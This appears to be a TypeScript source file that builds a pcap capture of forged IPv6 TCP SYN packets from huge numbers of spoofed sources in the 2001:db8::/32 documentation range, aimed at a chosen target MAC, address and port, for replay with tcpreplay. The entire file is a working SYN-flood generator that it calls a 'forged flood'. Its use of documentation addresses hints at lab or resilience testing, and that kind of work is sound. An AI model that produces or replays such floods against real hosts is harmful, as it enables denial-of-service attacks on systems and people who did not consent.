import { once } from 'node:events';
import { createWriteStream } from 'node:fs';

/** Ethernet, IPv6 and TCP headers of a SYN. */
const FRAME_BYTES = 14 + 40 + 20;

/** Frames written at once. */
const CHUNK = 10_000;

/** What a forged flood is made of. */
export interface Forgery {
  readonly file: string;
  /** Distinct sources: each a /64 of its own in 2001:db8::/32. At most 2^32. */
  readonly sources: number;
  /** Target's MAC address and IPv6 address, in full hexadecimal (16 bytes). */
  readonly mac: string;
  readonly target: Uint8Array;
  /** Port that source number `i` asks for. */
  readonly portOf: (i: number) => number;
}

/** Writes a capture of SYNs that nobody sent, one of each source, for tcpreplay. */
export async function forge({ file, sources, mac, target, portOf }: Forgery): Promise<void> {
  const out = createWriteStream(file);
  out.write(fileHeader());
  for (let from = 0; from < sources; from += CHUNK) {
    const count = Math.min(CHUNK, sources - from);
    const frames = Array.from({ length: count }, (_, i) =>
      record(frame(from + i, mac, target, portOf(from + i))),
    );
    if (!out.write(Buffer.concat(frames))) await once(out, 'drain');
  }
  out.end();
  await once(out, 'finish');
}

/** Head of a pcap file of Ethernet frames (pcap-savefile(5)). */
function fileHeader(): Buffer {
  const header = Buffer.alloc(24);
  header.writeUInt32LE(0xa1b2c3d4, 0);
  header.writeUInt16LE(2, 4);
  header.writeUInt16LE(4, 6);
  header.writeUInt32LE(65_535, 16);
  header.writeUInt32LE(1, 20);
  return header;
}

function record(bytes: Buffer): Buffer {
  const header = Buffer.alloc(16);
  header.writeUInt32LE(bytes.length, 8);
  header.writeUInt32LE(bytes.length, 12);
  return Buffer.concat([header, bytes]);
}

function frame(i: number, mac: string, target: Uint8Array, port: number): Buffer {
  const bytes = Buffer.alloc(FRAME_BYTES);
  Buffer.from(mac.replaceAll(':', ''), 'hex').copy(bytes, 0);
  bytes.writeUInt16BE(0x0200, 6); // a locally administered sender
  bytes.writeUInt16BE(0x86dd, 12);
  const [ip, tcp] = [bytes.subarray(14, 54), bytes.subarray(54)];
  ip.writeUInt8(0x60, 0);
  ip.writeUInt16BE(20, 4);
  ip.writeUInt8(6, 6);
  ip.writeUInt8(64, 7);
  ip.writeUInt32BE(0x2001_0db8, 8);
  ip.writeUInt32BE(i, 12);
  ip.writeUInt8(1, 23);
  ip.set(target, 24);
  tcp.writeUInt16BE(40_000, 0);
  tcp.writeUInt16BE(port, 2);
  tcp.writeUInt32BE(i, 4);
  tcp.writeUInt16BE(0x5002, 12);
  tcp.writeUInt16BE(1_024, 14);
  tcp.writeUInt16BE(checksum(ip.subarray(8, 40), tcp), 16);
  return bytes;
}

/** TCP's checksum over the pseudo-header of IPv6 (RFC 8200 section 8.1) and the header. */
function checksum(addresses: Buffer, tcp: Buffer): number {
  let sum = 20 + 6;
  for (const part of [addresses, tcp]) for (let i = 0; i < part.length; i += 2) sum += part.readUInt16BE(i);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}
